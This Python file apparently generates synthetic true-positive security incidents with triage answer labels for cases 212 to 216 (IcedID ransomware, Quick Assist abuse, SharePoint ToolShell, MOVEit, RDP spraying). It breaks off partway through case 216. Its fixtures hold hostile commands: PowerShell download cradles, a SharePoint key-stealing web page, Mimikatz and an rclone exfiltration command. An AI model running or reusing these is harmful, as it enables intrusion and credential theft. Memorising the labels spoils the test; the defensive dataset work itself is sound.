"""212-219: endpoint and server intrusions (true positives)."""
from common_2xx import *

PS_DIR = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"


def mde_extra(techniques, category, source="EDR", hostent=None, **more):
    d = {"MitreTechniques": json.dumps(techniques), "DetectionSource": source, "Category": category}
    if hostent is not None:
        d["DeviceId"] = hostent["properties"]["additionalData"]["MdatpDeviceId"]
    d.update(more)
    return d


# ---------------------------------------------------------------- 212
def inc212():
    """ISO/LNK loader -> IcedID -> encoded PowerShell fetching Cobalt Strike ->
    AdFind -> LSASS read -> PsExec to the file server -> encryption running."""
    n = 212
    tomas = account("tomas.novak", "Tomas Novak", rid=1712)
    adm = account("adm-pkowalski", "Piotr Kowalski (server admin)", rid=2712, extra={"isPrivileged": True})
    ws = host("WS-PRJ-031", os_version="10.0.22631")
    fs = host("SRV-FILE-03", os_version="10.0.20348", azure_vm="rg-prod-fileservices")
    ip_ws, ip_fs = ip("10.12.33.61"), ip("10.12.4.20")
    c2 = place("203.0.113.233", "MD", "Moldova, Republic of", "Chisinau", "Chisinau", 47.0105, 28.8638, 64550, "pq hosting plus s.r.l.",
               org_type="Hosting/Data Center", ti=ti("C2", "Cobalt Strike team server", "HTTPS beacon with a jQuery malleable profile", 85))
    cdn = "https://static-jquery-cdn.com/jquery-3.3.2.min.js"
    u_cdn = url(cdn)
    d_cdn = dns("static-jquery-cdn.com", [c2])
    script = ("$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko');"
              f"IEX $w.DownloadString('{cdn}')")
    b64 = enc_ps(script)
    h_iso, h_dll, h_af, h_enc = (filehash(sha256(x)) for x in ("212/iso", "212/dll", "212/adfind", "212/encryptor"))
    f_iso = file("C:\\Users\\tomas.novak\\Downloads", "Scan_Document_7812.iso", [h_iso], h=ws)
    f_dll = file("E:\\qs", "wb.dll", [h_dll], h=ws)
    f_rd = file("C:\\Windows\\System32", "rundll32.exe", h=ws)
    f_ps = file(PS_DIR, "powershell.exe", h=ws)
    f_af = file("C:\\ProgramData\\pfx", "af.exe", [h_af], h=ws)
    f_psexesvc = file("C:\\Windows", "PSEXESVC.exe", h=fs)
    f_enc = file("C:\\Windows\\Temp", "svcupd.exe", [h_enc], h=fs)
    f_note = file("E:\\Projects", "RECOVER-FILES.txt", h=fs)
    p_rd = process(n, 6204, "rundll32.exe E:\\qs\\wb.dll,init", fmt(at(7, "13:12", 40)), f_rd, None, tomas, ws, "Limited")
    p_ps = process(n, 7140, f"powershell.exe -nop -w hidden -enc {b64}", fmt(at(7, "13:41", 7)), f_ps, p_rd, tomas, ws, "Limited")
    p_af = process(n, 8012, 'C:\\ProgramData\\pfx\\af.exe -f "(objectcategory=person)" > ad_users.txt', fmt(at(7, "14:05", 31)),
                   f_af, p_ps, tomas, ws, "Limited")
    p_svc = process(n, 3308, "C:\\Windows\\PSEXESVC.exe", fmt(at(8, "02:10", 14)), f_psexesvc, None, adm, fs, "Full")
    p_enc = process(n, 3452, "C:\\Windows\\Temp\\svcupd.exe -path E:\\Projects -path E:\\Engineering -nolog",
                    fmt(at(8, "03:01", 55)), f_enc, p_svc, adm, fs, "Full")
    mal = malware("Ransom:Win64/Filecoder.PQ!MTB", "Ransomware", [f_enc], [p_enc])
    a1 = Alert(n, "icedid", "mde", "An active 'IcedId' malware process was detected while executing", "High",
               at(7, "13:12", 40), at(7, "13:13", 2), ["Execution", "DefenseEvasion"], ["T1204", "T1218"],
               "Malware and unwanted software are undesirable applications that perform annoying, disruptive, or harmful "
               "actions on affected machines. wb.dll, loaded with rundll32.exe from a mounted disk image "
               "(Scan_Document_7812.iso) opened by tomas.novak, was identified as IcedId.", compromised="WS-PRJ-031",
               extra=mde_extra(["T1204.002", "T1218.011", "T1553.005"], "Malware", "Antivirus", ws, ThreatName="Trojan:Win64/IcedId"))
    a2 = Alert(n, "cradle", "mde", "Suspicious PowerShell download or encoded command execution", "Medium",
               at(7, "13:41", 7), at(7, "13:41", 9), ["Execution", "CommandAndControl"], ["T1059", "T1027", "T1105"],
               "rundll32.exe started a hidden PowerShell with a base64-encoded command on WS-PRJ-031. The command downloaded "
               "and ran content from the internet in memory.", compromised="WS-PRJ-031",
               extra=mde_extra(["T1059.001", "T1027", "T1105"], "Execution", "EDR", ws))
    a3 = Alert(n, "cs", "mde", "An active 'CobaltStrike' malware was detected", "High", at(7, "13:41", 30), at(8, "02:40", 0),
               ["CommandAndControl"], ["T1071", "T1573"],
               "A Cobalt Strike beacon in the memory of powershell.exe on WS-PRJ-031 connects to static-jquery-cdn.com "
               "(203.0.113.233) over HTTPS every 60 seconds with 20% jitter.", compromised="WS-PRJ-031",
               extra=mde_extra(["T1071.001", "T1573.002"], "CommandAndControl", "EDR", ws, ThreatName="Backdoor:Win64/CobaltStrike"))
    a4 = Alert(n, "adfind", "mde", "Suspicious sequence of exploration activities", "Medium", at(7, "14:05", 31), at(7, "14:09", 50),
               ["Discovery"], ["T1087", "T1482", "T1018"],
               "af.exe (AdFind) enumerated users, computers, subnets and domain trusts of contoso.local and wrote the results "
               "to text files in C:\\ProgramData\\pfx.", compromised="WS-PRJ-031",
               extra=mde_extra(["T1087.002", "T1482", "T1018"], "Discovery", "EDR", ws))
    a5 = Alert(n, "lsass", "mde", "Sensitive credential memory read", "High", at(7, "22:31", 5), at(7, "22:31", 9),
               ["CredentialAccess"], ["T1003"],
               "The beacon process read the memory of lsass.exe on WS-PRJ-031. adm-pkowalski had logged on to the device "
               "interactively that afternoon to install software.", compromised="WS-PRJ-031",
               extra=mde_extra(["T1003.001"], "CredentialAccess", "EDR", ws))
    a6 = Alert(n, "psexec", "mde", "Suspicious service launched", "Medium", at(8, "02:10", 14), at(8, "02:10", 20),
               ["LateralMovement", "Execution"], ["T1021", "T1569"],
               "The PSEXESVC service was installed and started on SRV-FILE-03 by CONTOSO\\adm-pkowalski from 10.12.33.61 "
               "(WS-PRJ-031).", compromised="SRV-FILE-03",
               extra=mde_extra(["T1021.002", "T1569.002"], "LateralMovement", "EDR", fs))
    a7 = Alert(n, "ransom", "mde", "Possible ransomware activity", "High", at(8, "03:01", 55), at(8, "03:19", 30),
               ["Impact"], ["T1486", "T1490"],
               "svcupd.exe, started through PSEXESVC on SRV-FILE-03, deleted shadow copies and has renamed 6,214 files in "
               "E:\\Projects and E:\\Engineering to the extension .dg1, leaving RECOVER-FILES.txt in each folder. The "
               "process is still running.", compromised="SRV-FILE-03",
               extra=mde_extra(["T1486", "T1490"], "Ransomware", "EDR", fs))
    build(n, "iso-icedid-cobaltstrike-encryption", "Multi-stage incident involving Execution & Ransomware on multiple endpoints",
          "IcedId from a disk image on WS-PRJ-031 led to a Cobalt Strike beacon, AD discovery and theft of adm-pkowalski's "
          "credentials; that account launched an encryptor on SRV-FILE-03 through PsExec.",
          "High", "Active", at(8, "03:25"), [a1, a2, a3, a4, a5, a6, a7],
          [ws, fs, tomas, adm, ip_ws, ip_fs, c2, u_cdn, d_cdn, p_rd, p_ps, p_af, p_svc, p_enc, f_iso, f_dll, f_rd, f_ps, f_af,
           f_psexesvc, f_enc, f_note, h_iso, h_dll, h_af, h_enc, mal],
          owner=FARID, provider="Microsoft XDR", provider_incident="51377", labels=[("Ransomware", "User")],
          comments=[(FARID, at(8, "03:34"),
                     "Live response on SRV-FILE-03: svcupd.exe still running and the file count keeps growing. WS-PRJ-031's "
                     "beacon last checked in 03:33.")])
    label(n, "escalate", [], ["WS-PRJ-031", "SRV-FILE-03", "adm-pkowalski@contoso.com"],
          [A("isolate-host", "SRV-FILE-03"), A("isolate-host", "WS-PRJ-031"), A("disable-account", "adm-pkowalski@contoso.com"),
           A("block-ip", "203.0.113.233")],
          [A("block-ip", "10.12.4.20"), A("block-ip", "10.12.33.61")],
          ["TA0002", "TA0011", "TA0007", "TA0006", "TA0008", "TA0040"],
          "The DFIR Report, 'IcedID Brings ScreenConnect and CSharp Streamer to ALPHV Ransomware Deployment' (2024); "
          "https://thedfirreport.com/",
          "Encryption is running on the file server with an admin account stolen from the beaconing workstation: isolate "
          "both and kill the account first; the 10.12.x addresses are Contoso's own hosts.")


# ---------------------------------------------------------------- 213
def inc213():
    """Storm-1811: mail bombing, a fake help desk on external Teams, Quick Assist,
    an encoded download, a Cobalt Strike beacon and discovery."""
    n = 213
    haruto = account("haruto.sato", "Haruto Sato", rid=1713)
    lt = host("LT-LOG-019", os_version="10.0.22631")
    ip_lt = ip("10.14.7.44")
    beacon = place("198.51.100.234", "RU", "Russia", "Saint Petersburg", "Saint Petersburg", 59.9343, 30.3351, 64551,
                   "selectel ltd", org_type="Hosting/Data Center")
    zip_url = "https://contoso-antispam-update.azurewebsites.net/pkg/filter_update.zip"
    u_zip = url(zip_url)
    script = (f"$p=\"$env:LOCALAPPDATA\\Temp\\spamfilter\";New-Item $p -ItemType Directory -Force|Out-Null;"
              f"Invoke-WebRequest -Uri '{zip_url}' -OutFile \"$p\\f.zip\";Expand-Archive \"$p\\f.zip\" -DestinationPath $p -Force;"
              "Start-Process rundll32.exe -ArgumentList \"$p\\filter.dll,DllRegisterServer\"")
    b64 = enc_ps(script)
    h_dll = filehash(sha256("213/filter.dll"))
    f_qa = file("C:\\Program Files\\WindowsApps\\MicrosoftCorporationII.QuickAssist_2.0.32.0_x64__8wekyb3d8bbwe", "QuickAssist.exe", h=lt)
    f_ps = file(PS_DIR, "powershell.exe", h=lt)
    f_dll = file("C:\\Users\\haruto.sato\\AppData\\Local\\Temp\\spamfilter", "filter.dll", [h_dll], h=lt)
    f_rd = file("C:\\Windows\\System32", "rundll32.exe", h=lt)
    p_qa = process(n, 11220, '"C:\\Program Files\\WindowsApps\\MicrosoftCorporationII.QuickAssist_2.0.32.0_x64__8wekyb3d8bbwe\\QuickAssist.exe"',
                   fmt(at(14, "12:47", 30)), f_qa, None, haruto, lt, "Limited")
    p_ps = process(n, 11804, f"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {b64}", fmt(at(14, "12:54", 2)),
                   f_ps, None, haruto, lt, "Limited")
    p_rd = process(n, 12016, "rundll32.exe C:\\Users\\haruto.sato\\AppData\\Local\\Temp\\spamfilter\\filter.dll,DllRegisterServer",
                   fmt(at(14, "12:54", 40)), f_rd, p_ps, haruto, lt, "Limited")
    helpdesk = account("helpdesk", "IT Help Desk", upn_suffix="contosoit-support.onmicrosoft.com", nt=None, domain_joined=False, cloud=False)
    q1 = ("EmailEvents\n| where TimeGenerated > ago(1h) and EmailDirection == \"Inbound\"\n"
          "| summarize Messages = count(), Senders = dcount(SenderFromDomain) by RecipientEmailAddress, bin(TimeGenerated, 30m)\n"
          "| where Messages > 500 and Senders > 100")
    a1 = Alert(n, "flood", "sentinel", "Inbound mail flood to a single mailbox", "Medium", at(14, "12:05", 0), at(14, "12:38", 0),
               ["Impact"], ["T1499"],
               "haruto.sato@contoso.com received 3,870 messages from 1,104 sender domains in 33 minutes, almost all "
               "newsletter sign-up confirmations.", query=q1, results=3870, data_sources=["EmailEvents"])
    q2 = ("CloudAppEvents\n| where Application == \"Microsoft Teams\" and ActionType == \"ChatCreated\"\n"
          "| where tostring(RawEventData.ParticipantInfo.HasForeignTenantUsers) == \"true\"\n"
          "| where AccountDisplayName has_any (\"help desk\", \"helpdesk\", \"it support\", \"service desk\")")
    a2 = Alert(n, "teams", "sentinel", "External Teams chat from a help-desk look-alike account", "Medium",
               at(14, "12:41", 16), at(14, "12:44", 50), ["InitialAccess"], ["T1566"],
               "'IT Help Desk' (helpdesk@contosoit-support.onmicrosoft.com), from a tenant created two days ago, started a "
               "one-to-one chat and a call with haruto.sato@contoso.com.", query=q2, results=2, data_sources=["CloudAppEvents"])
    a3 = Alert(n, "qa", "mde", "Suspicious activity after a Quick Assist session", "Medium", at(14, "12:47", 30), at(14, "12:54", 40),
               ["Execution", "CommandAndControl"], ["T1219", "T1059"],
               "A Quick Assist session with screen control was accepted on LT-LOG-019; a hidden PowerShell with an encoded "
               "command started seven minutes later and a DLL from the user's temp folder was run with rundll32.exe.",
               compromised="LT-LOG-019", extra=mde_extra(["T1219", "T1059.001", "T1218.011"], "Execution", "EDR", lt))
    a4 = Alert(n, "cs", "mde", "An active 'CobaltStrike' malware was detected", "High", at(14, "12:55", 12), at(14, "13:20", 0),
               ["CommandAndControl"], ["T1071"],
               "filter.dll loaded a Cobalt Strike beacon in rundll32.exe on LT-LOG-019 connecting to 198.51.100.234:443.",
               compromised="LT-LOG-019",
               extra=mde_extra(["T1071.001"], "CommandAndControl", "Antivirus", lt, ThreatName="Backdoor:Win64/CobaltStrike.NP!dha"))
    a5 = Alert(n, "recon", "mde", "Suspicious sequence of exploration activities", "Medium", at(14, "13:09", 40), at(14, "13:12", 5),
               ["Discovery"], ["T1069", "T1482"],
               "rundll32.exe ran 'net group \"domain admins\" /domain', 'nltest /domain_trusts /all_trusts' and "
               "'net view /all' on LT-LOG-019.", compromised="LT-LOG-019",
               extra=mde_extra(["T1069.002", "T1482", "T1135"], "Discovery", "EDR", lt))
    build(n, "mailbomb-teams-quick-assist-beacon", "Quick Assist session followed by Cobalt Strike on LT-LOG-019",
          "A mail flood, a call from a fake IT help desk on external Teams and a Quick Assist session on LT-LOG-019, then an "
          "encoded PowerShell download, a Cobalt Strike beacon and domain discovery.",
          "High", "New", at(14, "13:30"), [a1, a2, a3, a4, a5],
          [haruto, helpdesk, lt, ip_lt, beacon, u_zip, p_qa, p_ps, p_rd, f_qa, f_ps, f_dll, f_rd, h_dll, TEAMS],
          provider="Microsoft XDR", provider_incident="51630",
          comments=[(YUKI, at(14, "13:44"),
                     "Haruto: 'IT' called on Teams about the spam and asked him to open Quick Assist and type in a code; he "
                     "also typed his password into a window they opened. Our service desk never uses external tenants.")])
    label(n, "escalate", [], ["LT-LOG-019", "haruto.sato@contoso.com"],
          [A("isolate-host", "LT-LOG-019"), A("reset-credentials", "haruto.sato@contoso.com"), A("block-url", zip_url),
           A("block-ip", "198.51.100.234")],
          [A("block-ip", "10.14.7.44")],
          ["TA0001", "TA0002", "TA0011", "TA0007"],
          "Microsoft Threat Intelligence, 'Threat actors misusing Quick Assist in social engineering attacks leading to ransomware' "
          "(Storm-1811, 2024-05-15), https://www.microsoft.com/en-us/security/blog/2024/05/15/threat-actors-misusing-quick-assist-in-social-engineering-attacks-leading-to-ransomware/",
          "The fake help desk got hands on the laptop: the decoded command downloads filter_update.zip whose DLL is a live "
          "beacon doing discovery, the usual prelude to Black Basta.")


# ---------------------------------------------------------------- 214
SPINSTALL = ('<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %>'
             '<script runat="server" language="c#" CODEPAGE="65001">public void Page_load(){'
             'var sy = System.Reflection.Assembly.Load("System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a");'
             'var mkt = sy.GetType("System.Web.Configuration.MachineKeySection");'
             'var gac = mkt.GetMethod("GetApplicationConfig", System.Reflection.BindingFlags.Static | System.Reflection.BindingFlags.NonPublic);'
             'var cg = (System.Web.Configuration.MachineKeySection)gac.Invoke(null, new object[0]);'
             'Response.Write(cg.ValidationKey+"|"+cg.Validation+"|"+cg.DecryptionKey+"|"+cg.Decryption+"|"+cg.CompatibilityMode);}</script>')


def inc214():
    """SharePoint ToolShell: ToolPane.aspx exploit, encoded PowerShell writing
    spinstall0.aspx, machine keys read back."""
    import base64
    n = 214
    sp = host("SP-INTRA-01", os_version="10.0.17763", azure_vm="rg-prod-collab")
    ip_sp = ip("10.16.40.15")
    pub = ip("192.0.2.60", geo("US", "United States", "Virginia", "Boydton", 36.6676, -78.3875, 64496, "contoso ltd", "contoso ltd"))
    atk1 = place("203.0.113.176", "US", "United States", "New Jersey", "Piscataway", 40.5549, -74.4643, 64552,
                 "the constant company llc", org_type="Hosting/Data Center")
    atk2 = place("203.0.113.177", "US", "United States", "New Jersey", "Piscataway", 40.5549, -74.4643, 64552,
                 "the constant company llc", org_type="Hosting/Data Center")
    pool = account("svc-spfarm", "SharePoint farm service account", rid=3714, cloud=False)
    inner = base64.b64encode(SPINSTALL.encode()).decode()
    dest = "C:\\PROGRA~1\\COMMON~1\\MICROS~1\\WEBSER~1\\16\\TEMPLATE\\LAYOUTS\\spinstall0.aspx"
    script = (f"$base64String = \"{inner}\"\n$destinationFile = \"{dest}\"\n"
              "$decodedBytes = [System.Convert]::FromBase64String($base64String)\n"
              "$decodedContent = [System.Text.Encoding]::UTF8.GetString($decodedBytes)\n"
              "$decodedContent | Set-Content -Path $destinationFile -ErrorAction Stop")
    b64 = enc_ps(script)
    h_shell = filehash(hashlib_sha256(SPINSTALL))
    f_shell = file("C:\\Program Files\\Common Files\\Microsoft Shared\\Web Server Extensions\\16\\TEMPLATE\\LAYOUTS",
                   "spinstall0.aspx", [h_shell], h=sp)
    f_w3wp = file("C:\\Windows\\System32\\inetsrv", "w3wp.exe", h=sp)
    f_cmd = file("C:\\Windows\\System32", "cmd.exe", h=sp)
    f_ps = file(PS_DIR, "powershell.exe", h=sp)
    p_w3 = process(n, 5120, 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "SharePoint - 80" -v "v4.0" -l "webengine4.dll"',
                   fmt(at(11, "06:00", 3)), f_w3wp, None, pool, sp, "Default")
    p_cmd = process(n, 9828, f"cmd.exe /c powershell -EncodedCommand {b64}", fmt(at(11, "07:28", 41)), f_cmd, p_w3, pool, sp, "Default")
    p_ps = process(n, 9902, f"powershell -EncodedCommand {b64}", fmt(at(11, "07:28", 42)), f_ps, p_cmd, pool, sp, "Default")
    exploit = "https://intranet.contoso.com/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx"
    shell_url = "https://intranet.contoso.com/_layouts/15/spinstall0.aspx"
    u1, u2 = url(exploit), url(shell_url)
    a1 = Alert(n, "exploit", "mde", "Possible exploitation of SharePoint server vulnerabilities", "High",
               at(11, "07:28", 36), at(11, "07:28", 41), ["InitialAccess"], ["T1190"],
               "A POST to /_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx with the Referer "
               "/_layouts/SignOut.aspx reached SP-INTRA-01 from 203.0.113.176 and was followed by code execution in the "
               "SharePoint worker process. Antivirus flagged the request as Exploit:Script/SuspSignoutReq.A.",
               compromised="SP-INTRA-01", extra=mde_extra(["T1190"], "InitialAccess", "EDR", sp))
    a2 = Alert(n, "w3wp", "mde", "Suspicious behavior by an IIS worker process", "High", at(11, "07:28", 41), at(11, "07:28", 50),
               ["Execution", "Persistence"], ["T1059", "T1505"],
               "w3wp.exe (application pool 'SharePoint - 80') started cmd.exe and PowerShell with a base64-encoded command, "
               "which wrote spinstall0.aspx into the SharePoint LAYOUTS folder.", compromised="SP-INTRA-01",
               extra=mde_extra(["T1059.001", "T1505.003"], "Execution", "EDR", sp))
    a3 = Alert(n, "av", "mde", "'HijackSharePointServer' malware was detected", "High", at(11, "07:28", 52), at(11, "07:28", 52),
               ["Persistence", "CredentialAccess"], ["T1505", "T1552"],
               "Trojan:Win32/HijackSharePointServer.A was detected in spinstall0.aspx on SP-INTRA-01. The file returns the "
               "server's ASP.NET validation and decryption keys to whoever requests it.", compromised="SP-INTRA-01",
               extra=mde_extra(["T1505.003", "T1552"], "Malware", "Antivirus", sp, ThreatName="Trojan:Win32/HijackSharePointServer.A"))
    q4 = ("W3CIISLog\n| where csUriStem endswith \"/_layouts/15/spinstall0.aspx\" or (csUriStem has \"ToolPane.aspx\" and csReferer has \"SignOut.aspx\")\n"
          "| project TimeGenerated, Computer, cIP, csMethod, csUriStem, csUriQuery, scStatus, csUserAgent")
    a4 = Alert(n, "iis", "sentinel", "Request to a new .aspx page in the SharePoint LAYOUTS folder", "High",
               at(11, "07:31", 2), at(11, "07:31", 20), ["CredentialAccess", "Persistence"], ["T1552", "T1505"],
               "GET /_layouts/15/spinstall0.aspx from 203.0.113.177 returned 200 (1,247 bytes) on SP-INTRA-01, published "
               "on intranet.contoso.com (192.0.2.60).", query=q4, results=3, data_sources=["W3CIISLog"])
    build(n, "sharepoint-toolpane-spinstall0", "SharePoint exploitation and web shell on SP-INTRA-01",
          "SP-INTRA-01 (intranet.contoso.com) was exploited through ToolPane.aspx; an encoded PowerShell wrote spinstall0.aspx "
          "and the page was requested from a second address to read the machine keys.",
          "High", "New", at(11, "07:50"), [a1, a2, a3, a4],
          [sp, ip_sp, pub, atk1, atk2, pool, u1, u2, p_w3, p_cmd, p_ps, f_w3wp, f_cmd, f_ps, f_shell, h_shell],
          provider="Microsoft XDR", provider_incident="51488")
    label(n, "escalate", [], ["SP-INTRA-01"],
          [A("isolate-host", "SP-INTRA-01"), A("block-ip", "203.0.113.176")],
          [A("block-ip", "192.0.2.60"), A("block-url", exploit), A("block-ip", "10.16.40.15")],
          ["TA0001", "TA0002", "TA0003", "TA0006"],
          "Microsoft Security, 'Disrupting active exploitation of on-premises SharePoint vulnerabilities' (2025-07-22), "
          "https://www.microsoft.com/en-us/security/blog/2025/07/22/disrupting-active-exploitation-of-on-premises-sharepoint-vulnerabilities/",
          "The worker process ran attacker code that planted a key-stealing page which was then fetched; intranet.contoso.com "
          "and 192.0.2.60 are Contoso's own site and address.")


def hashlib_sha256(text):
    return sha256(text)


# ---------------------------------------------------------------- 215
def inc215():
    """MOVEit Transfer: SQL injection, LEMURLOOT-style human2.aspx, data pulled out."""
    n = 215
    mft = host("MFT-01", os_version="10.0.17763", azure_vm="rg-prod-dmz", joined=False)
    ip_mft = ip("10.30.1.15")
    pub = ip("192.0.2.75", geo("US", "United States", "Virginia", "Boydton", 36.6676, -78.3875, 64496, "contoso ltd", "contoso ltd"))
    atk = place("198.51.100.158", "LU", "Luxembourg", "Luxembourg", "Luxembourg", 49.6116, 6.1319, 64553, "frantech solutions",
                org_type="Hosting/Data Center")
    partner = place("198.51.100.120", "US", "United States", "Massachusetts", "Boston", 42.3601, -71.0589, 64560, "fabrikam inc",
                    org_type="Corporate")
    pool = account("moveitsvc", "MOVEit Transfer app pool", upn_suffix=None, nt="MFT-01", domain_joined=False, cloud=False,
                   extra={"sid": "S-1-5-82-1036420768-1044797643-1061213386-2937092688-4282445334", "hostEntityId": mft["id"]})
    shell_hash = sha256("215/human2.aspx")
    h_shell = filehash(shell_hash)
    f_shell = file("C:\\MOVEitTransfer\\wwwroot", "human2.aspx", [h_shell], h=mft)
    f_w3wp = file("C:\\Windows\\System32\\inetsrv", "w3wp.exe", h=mft)
    f_csc = file("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319", "csc.exe", h=mft)
    p_w3 = process(n, 4412, 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "moveitdmz pool" -v "v4.0"', fmt(at(6, "00:00", 5)),
                   f_w3wp, None, pool, mft, "Default")
    p_csc = process(n, 8640, '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\9a71c0b3\\5e2d8f10\\ykqtr1zv.cmdline"',
                    fmt(at(6, "01:09", 12)), f_csc, p_w3, pool, mft, "Default")
    site = "https://transfer.contoso.com/human2.aspx"
    u_shell = url(site)
    q1 = ("W3CIISLog\n| where Computer =~ \"MFT-01\"\n| where csUriStem in~ (\"/human2.aspx\", \"/moveitisapi/moveitisapi.dll\", \"/guestaccess.aspx\")\n"
          "| project TimeGenerated, cIP, csMethod, csUriStem, csUriQuery, scStatus, csUserAgent, csBytes, scBytes")
    a1 = Alert(n, "iis", "sentinel", "MOVEit Transfer exploitation: requests to human2.aspx", "High", at(6, "01:05", 40), at(6, "01:40", 12),
               ["InitialAccess", "Persistence"], ["T1190", "T1505"],
               "198.51.100.158 sent POST /moveitisapi/moveitisapi.dll?action=m2 and POST /guestaccess.aspx, then GET "
               "/human2.aspx with an X-siLock-Comment header. The only other client in the window was Fabrikam's scheduled "
               "SFTP drop from 198.51.100.120, which uses the normal interface.",
               query=q1, results=214, data_sources=["W3CIISLog"])
    a2 = Alert(n, "shell", "mde", "Suspicious web shell file written by an IIS worker process", "High",
               at(6, "01:09", 12), at(6, "01:09", 20), ["Persistence"], ["T1505"],
               "w3wp.exe (moveitdmz pool) compiled and wrote human2.aspx in C:\\MOVEitTransfer\\wwwroot on MFT-01. The page "
               "creates a MOVEit database user 'Health Check Service' and lists and downloads stored files when called "
               "with the right header.", compromised="MFT-01",
               extra=mde_extra(["T1505.003"], "Persistence", "EDR", mft))
    q3 = ("VMConnection\n| where Computer =~ \"MFT-01\" and Direction == \"inbound\"\n| summarize SentMB = sum(BytesSent) / 1048576 by RemoteIp\n| where SentMB > 500")
    a3 = Alert(n, "egress", "sentinel", "Large data transfer from the managed file transfer server", "High",
               at(6, "01:30", 0), at(6, "03:05", 0), ["Exfiltration"], ["T1041"],
               "MFT-01 sent 4.1 GB to 198.51.100.158 over HTTPS in 95 minutes: the contents of 38 partner folders.",
               query=q3, results=1, data_sources=["VMConnection"])
    build(n, "moveit-human2-webshell", "MOVEit Transfer exploitation and data theft on MFT-01",
          "MFT-01 (transfer.contoso.com, 192.0.2.75) was exploited; human2.aspx was written and 4.1 GB of partner files were "
          "downloaded by 198.51.100.158.",
          "High", "New", at(6, "03:30"), [a1, a2, a3],
          [mft, ip_mft, pub, atk, partner, pool, u_shell, p_w3, p_csc, f_w3wp, f_csc, f_shell, h_shell])
    label(n, "escalate", [], ["MFT-01"],
          [A("isolate-host", "MFT-01"), A("block-ip", "198.51.100.158")],
          [A("block-ip", "192.0.2.75"), A("block-ip", "198.51.100.120")],
          ["TA0001", "TA0003", "TA0010"],
          "CISA AA23-158A, '#StopRansomware: CL0P Ransomware Gang Exploits CVE-2023-34362 MOVEit Vulnerability' (2023-06-07), "
          "https://www.cisa.gov/news-events/cybersecurity-advisories/aa23-158a",
          "A web shell on the transfer server served 4.1 GB to the attacker; 192.0.2.75 is the server itself and "
          "198.51.100.120 is Fabrikam's legitimate transfer client.")


# ---------------------------------------------------------------- 216
def inc216():
    """Password spray against an exposed RDP host, an Administrator logon,
    Mimikatz, a network scan and rclone to an SFTP server."""
    n = 216
    rds = host("SRV-RDS-02", os_version="10.0.20348", azure_vm="rg-prod-rds")
    ip_rds = ip("10.16.60.22")
    pub = ip("192.0.2.91")
    adm = local_account("Administrator", "Administrator", rds, 500)
    sprayers = [place("203.0.113.41", "NL", "Netherlands", "Flevoland", "Dronten", 52.5250, 5.7180, 64554, "alsycon b.v.", org_type="Hosting/Data Center"),
                place("203.0.113.42", "NL", "Netherlands", "Flevoland", "Dronten", 52.5250, 5.7180, 64554, "alsycon b.v.", org_type="Hosting/Data Center"),
                place("203.0.113.43", "SC", "Seychelles", "Mahe", "Victoria", -4.6191, 55.4513, 64555, "ponynet", org_type="Hosting/Data Center")]
    sftp = place("198.51.100.203", "US", "United States", "Delaware", "Wilmington", 39.7391, -75.5398, 64556, "ethernet servers llc",
                 org_type="Hosting/Data Center")
    h_mimi, h_ips, h_rc = (filehash(sha256(x)) for x in ("216/mimikatz", "216/ipscan", "216/rclone"))
    f_mimi = file("C:\\Users\\Administrator\\Music\\mk\\x64", "mimikatz.exe", [h_mimi], h=rds)
    f_ips = file("C:\\Users\\Administrator\\Music", "advanced_ip_scanner.exe", [h_ips], h=rds)
    f_rc = file("C:\\Users\\Administrator\\Music", "rclone.exe", [h_rc], h=rds)
    p_mimi = process(n, 6620, 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', fmt(at(11, "21:58", 4)), f_mimi, None, adm, rds, "Full")
    p_ips = process(n, 7344, '"C:\\Users\\Administrator\\Music\\advanced_ip_scanner.exe" /portable "C:/Users/Administrator/Music/" /lng en_us',
                    fmt(at(11, "22:10", 31)), f_ips, None, adm, rds, "Full")
    p_rc = process(n, 9124, 'rclone.exe copy \\\\SRV-FILE-07\\Finance sftpx:/upload/ctso -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12',
                   fmt(at(11, "23:05", 12)), f_rc, None, adm, rds, "Full")
    q1 = ("SecurityEvent\n| where EventID == 4625 and LogonType in (3, 10)\n"
          "| summarize Failures = count(), Accounts = dcount(TargetUserName) by IpAddress, Computer, bin(TimeGenerated, 1h)\n"
          "| where Accounts > 50")
    a1 = Alert(n, "spray", "sentinel", "Password spray over RDP: many account names from few addresses", "Medium",
               at(11, "19:02", 10), at(11, "21:43", 50), ["CredentialAccess"], ["T1110"],
               "SRV-RDS-02 logged 1,460 failed network logons for 1,112 account names from 203.0.113.41, 203.0.113.42 and "
               "203.0.113.43 through its public address 192.0.2.91.", query=q1, results=1460, data_sources=["SecurityEvent"])
    q2 = ("let fails = SecurityEvent | where EventID == 4625 | summarize F = count() by IpAddress | where F > 100;\n"
          "SecurityEvent\n| where EventID == 4624 and LogonType == 10\n| where IpAddress in ((fails | project IpAddress))")
    a2 = Alert(n, "success", "sentinel", "Successful RDP logon from an address with many failures", "High",
               at(11, "21:44", 5), at(11, "21:44", 5), ["InitialAccess"], ["T1078", "T1133"],
               "SRV-RDS-02\\Administrator logged on interactively over RDP (logon type 10) from 203.0.113.42 after 512 "
               "failures from the same address.", query=q2, results=1, data_sources=["SecurityEvent"])
    a3 = Alert(n, "mimi", "mde", "Mimikatz credential theft tool", "High", at(11, "21:58", 4), at(11, "21:58", 9),
               ["CredentialAccess"], ["T1003"],
               "The Mimikatz credential theft tool ran on SRV-RDS-02 with sekurlsa::logonpasswords. 14 domain users had "
               "remote desktop sessions on this host in the last day.", compromised="SRV-RDS-02",
               extra=mde_extra(["T1003.001"], "CredentialAccess", "Antivirus", rds, ThreatName="HackTool:Win32/Mimikatz"))
